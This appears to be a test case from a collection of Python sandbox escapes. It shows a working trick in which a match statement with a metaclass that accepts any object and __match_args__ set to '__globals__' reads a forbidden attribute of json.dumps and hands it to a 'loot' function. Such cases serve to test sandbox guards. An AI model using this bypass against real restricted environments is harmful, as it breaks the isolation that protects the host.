# aim: read a forbidden attribute by position
# mechanism: __match_args__ names the attribute, __instancecheck__ accepts everything
# language: guard
# reason: a positional class pattern reads the attributes that __match_args__ names
# jail: process
# plain: loot

import json


class Anything(type):
    def __instancecheck__(cls, obj):
        return True


class Pattern(metaclass=Anything):
    __match_args__ = ("__globals__",)


match json.dumps:
    case Pattern(found):
        loot(found)
